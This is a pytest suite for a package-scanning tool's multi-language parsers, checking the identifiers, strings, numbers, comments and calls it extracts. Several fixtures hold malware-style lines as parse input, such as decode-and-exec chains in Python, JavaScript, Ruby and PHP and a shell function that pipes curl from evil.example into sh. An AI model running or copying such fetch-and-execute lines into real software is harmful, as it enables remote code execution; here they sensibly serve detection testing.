"""Each language's parser against hand-checked tokens: identifiers with their kind, string
literals with raw and value, numbers, comments, calls."""

from __future__ import annotations

import pytest

from pkgtrace.static.parsing import detect_language, parse_raw, parser_for


def _ids(res):
    return {(i.name, i.kind.value) for i in res.identifiers}


def _strs(res):
    return [(s.value, s.raw) for s in res.strings]


def test_python():
    src = (b'import base64 as b\n'
           b'def f(a, b=2, *c, **d):  # doc\n'
           b'    x = "a\\x41b" + r"r\\n" + f"hi {a}" + b"\\x00"\n'
           b'    y, z = 1.5, 0x1F\n'
           b'    return exec(b.b64decode("aGk="))\n'
           b'class C(Base):\n'
           b'    def m(self): self.q = "\\N{BULLET}\\u00e9"\n')
    r = parser_for("python").parse(src)
    assert not r.syntax_errors
    assert {("f", "Function"), ("a", "Parameter"), ("b", "Parameter"), ("c", "Parameter"),
            ("d", "Parameter"), ("x", "Variable"), ("y", "Variable"), ("z", "Variable"),
            ("C", "Class"), ("m", "Function"), ("self", "Parameter"), ("q", "Property")} <= _ids(r)
    # references are not declarations (OSSF keeps declarations only): b64decode is a call here
    assert "b64decode" not in {name for name, _ in _ids(r)}
    assert _strs(r) == [("aAb", '"a\\x41b"'), ("r\\n", 'r"r\\n"'), ("hi ${}", 'f"hi {a}"'),
                        ("\x00", 'b"\\x00"'), ("aGk=", '"aGk="'), ("•é", '"\\N{BULLET}\\u00e9"')]
    assert [(i.value, i.raw) for i in r.ints] == [(2, "2"), (31, "0x1F")]
    assert [(f.value, f.raw) for f in r.floats] == [(1.5, "1.5")]
    assert [c.text for c in r.comments] == [" doc"]
    assert [c.name for c in r.calls] == ["exec", "b.b64decode"]
    assert r.strings[4].line == 5


def test_javascript():
    src = (b"const _0x1a2b = ['\\x68\\x65', \"a\\u0041\\u{1F600}\", `t${x}y`]; // c1\n"
           b"/* c2 */ function foo(a, {b}, ...c) { let z = 1.5e3 + 0x10 + 017; lbl: for(;;) break lbl; }\n"
           b"class K { #priv = 1; meth(p) { return this.#priv } }\n"
           b"try {} catch (err) { require('child_process').exec(atob('aGk=')) }\n")
    r = parser_for("javascript").parse(src)
    assert {("_0x1a2b", "Variable"), ("foo", "Function"), ("a", "Parameter"), ("c", "Parameter"),
            ("b", "Variable"), ("z", "Variable"), ("lbl", "StatementLabel"), ("K", "Class"),
            ("priv", "Property"), ("meth", "Function"), ("p", "Parameter"),
            ("err", "Parameter")} <= _ids(r)
    assert "exec" not in {name for name, _ in _ids(r)}
    assert _strs(r)[:3] == [("he", "'\\x68\\x65'"), ("aA😀", '"a\\u0041\\u{1F600}"'),
                            ("t${}y", "`t${x}y`")]
    assert [(i.value, i.raw) for i in r.ints] == [(16, "0x10"), (15, "017"), (1, "1")]
    assert [(f.value, f.raw) for f in r.floats] == [(1500.0, "1.5e3")]
    assert [c.text for c in r.comments] == [" c1", " c2 "]
    assert [c.name for c in r.calls] == ["….exec", "require", "atob"]


def test_typescript_and_tsx():
    src = b'interface I { a: string }\nfunction f(p: number): void { const x: string = "s"; }\n'
    for lang in ("typescript", "tsx"):
        r = parser_for(lang).parse(src)
        assert {("I", "Class"), ("a", "Property"), ("f", "Function"), ("p", "Parameter"),
                ("x", "Variable")} <= _ids(r)
        assert _strs(r) == [("s", '"s"')]


def test_ruby():
    src = (b"# c\nmodule M\n  class Foo < Bar\n    CONST = \"a\\x41#{x}b\"\n"
           b"    def meth(a, b = 1, *c, d:, **e, &f)\n      @iv = 'it\\'s \\\\ \\n'\n"
           b"      eval(Base64.decode64(%q(aGk=)))\n      system \"curl http://1.2.3.4/x\"\n    end\n"
           b"  end\nend\n")
    r = parser_for("ruby").parse(src)
    assert {("M", "Class"), ("Foo", "Class"), ("CONST", "Variable"), ("meth", "Function"),
            ("a", "Parameter"), ("b", "Parameter"), ("c", "Parameter"), ("d", "Parameter"),
            ("e", "Parameter"), ("f", "Parameter"), ("iv", "Property")} <= _ids(r)
    assert _strs(r) == [("aA${}b", '"a\\x41#{x}b"'), ("it's \\ \\n", "'it\\'s \\\\ \\n'"),
                        ("aGk=", "%q(aGk=)"), ("curl http://1.2.3.4/x", '"curl http://1.2.3.4/x"')]
    assert [c.name for c in r.calls] == ["eval", "Base64.decode64", "system"]


def test_php():
    src = (b"<?php\n// c\nfunction foo($a, int $b = 1) { $x = \"a\\x41{$y}b\\u{41}\"; "
           b"$z = 'it\\'s\\n'; return 0x1F + 1.5; }\n"
           b"class K { public $prop = 2; function m() { eval(base64_decode('aGk=')); } }\n"
           b"$h = <<<EOT\nheredoc $v \\t\nEOT;\n")
    r = parser_for("php").parse(src)
    assert {("foo", "Function"), ("a", "Parameter"), ("b", "Parameter"), ("x", "Variable"),
            ("K", "Class"), ("prop", "Property"), ("m", "Function"), ("h", "Variable")} <= _ids(r)
    assert ("aA${}bA", '"a\\x41{$y}b\\u{41}"') in _strs(r)
    assert ("it's\\n", "'it\\'s\\n'") in _strs(r)
    assert any(v == "\nheredoc ${} \t" for v, _ in _strs(r))
    assert {"eval", "base64_decode"} <= {c.name for c in r.calls}


def test_rust():
    src = (b'// line\nstruct S { field: u8 }\n'
           b'fn main(arg: i32) { let x = "a\\x41\\u{41}"; let r = r#"raw\\n"#; '
           b'let n = 0xFF_u32 + 1_000 + 1.5f64 as u32; }\n')
    r = parser_for("rust").parse(src)
    assert {("S", "Class"), ("field", "Property"), ("main", "Function"), ("arg", "Parameter"),
            ("x", "Variable"), ("r", "Variable"), ("n", "Variable")} <= _ids(r)
    assert _strs(r) == [("aAA", '"a\\x41\\u{41}"'), ("raw\\n", 'r#"raw\\n"#')]
    assert [(i.value, i.raw) for i in r.ints] == [(255, "0xFF_u32"), (1000, "1_000")]
    assert [f.value for f in r.floats] == [1.5]
    assert [c.text for c in r.comments] == [" line"]


def test_shell():
    src = (b"#!/bin/sh\nX=\"http://198.51.100.1/$Y\"\nf() { curl -s 'http://evil.example/x' | sh; }\n"
           b"echo $'a\\x41' 42\n")
    r = parser_for("shell").parse(src)
    assert {("X", "Variable"), ("f", "Function")} <= _ids(r)
    values = [s.value for s in r.strings]
    assert {"http://198.51.100.1/${}", "http://evil.example/x", "aA", "-s"} <= set(values)
    assert [c.name for c in r.calls] == ["curl", "sh", "echo"]


def test_syntax_errors_still_give_tokens():
    r = parser_for("python").parse(b'print "py2 style"\nx = "http://192.0.2.1/a"\ndef (:\n')
    assert r.syntax_errors
    assert "http://192.0.2.1/a" in [s.value for s in r.strings]


def test_raw_text_fallback():
    r = parse_raw(b'{"url": "http://192.0.2.1/x", "k": \'v\\x41\'}\nvar _0x12ab=1;\n')
    assert not r.parsed
    assert [(s.value, s.line) for s in r.strings] == [("url", 1), ("http://192.0.2.1/x", 1),
                                                      ("k", 1), ("vA", 1)]
    assert [(i.name, i.line) for i in r.identifiers] == [("_0x12ab", 2)]


@pytest.mark.parametrize("path,head,lang", [
    ("a/setup.py", b"", "python"), ("x.pth", b"", "python"), ("lib/a.mjs", b"", "javascript"),
    ("a.tsx", b"", "tsx"), ("Rakefile", b"", "ruby"), ("x.gemspec", b"", "ruby"),
    ("src/a.php", b"", "php"), ("build.rs", b"", "rust"), ("install", b"#!/bin/bash\n", "shell"),
    ("bin/tool", b"#!/usr/bin/env python3\n", "python"), ("bin/cli", b"#!/usr/bin/env node\n",
                                                        "javascript"),
    ("README.md", b"", None), ("data.json", b"{}", None), ("page", b"<?php echo 1;", "php"),
])
def test_language_detection(path, head, lang):
    assert detect_language(path, head) == lang


def test_big_token_lists_are_capped():
    from pkgtrace.static.parsing.treesitter import MAX_TOKENS
    src = b"x = [" + b",".join(b'"s%d"' % i for i in range(MAX_TOKENS + 50)) + b"]\n"
    r = parser_for("python").parse(src)
    assert len(r.strings) == MAX_TOKENS and r.truncated


def test_huge_integer_literals_do_not_break_parsing():
    # an integer past float range and one past Python's int() digit limit (pycryptodomex has both)
    from pkgtrace.static.parsing import parser_for
    src = ("A = " + "9" * 400 + "\nB = " + "7" * 5000 + "\nC = 1\n").encode()
    res = parser_for("python").parse(src)
    assert [i.value for i in res.ints] == [1]
    assert len(res.floats) == 2 and all(f.value == float("inf") for f in res.floats)
